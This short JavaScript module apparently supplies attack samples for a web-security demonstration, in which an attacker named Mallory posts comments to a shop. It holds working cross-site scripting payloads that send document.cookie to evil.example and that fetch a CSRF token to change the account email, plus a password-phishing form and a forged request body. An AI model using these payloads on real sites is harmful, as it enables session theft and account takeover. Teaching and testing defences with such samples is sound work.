// What Mallory writes. `deed` is what a script of the shop's own could do as well.
const deed = `
  const account = await fetch('account');
  const { token } = await account.json();
  const body = JSON.stringify({ email: 'mallory@evil.example' });
  const headers = { 'content-type': 'application/json', 'csrf-token': token };
  await fetch('email', { method: 'POST', headers, body });`;

export const attacks = {
  cookie: {
    title: 'takes the cookie',
    comment: `<script>fetch('https://evil.example/?' + document.cookie)</script>`,
  },
  deed: { title: 'acts, by a script', comment: `<script>${deed}</script>` },
  image: { title: 'acts, by an image', comment: `<img src=x onerror="${deed}">` },
  link: { title: 'acts, by a link', website: `javascript:${deed}` },
  form: {
    title: 'asks by a form',
    comment: '<form action="https://evil.example/"><input name=password></form>',
  },
  forged: { title: 'from evil.example', forges: '{"email":"mallory@evil.example"}' },
};
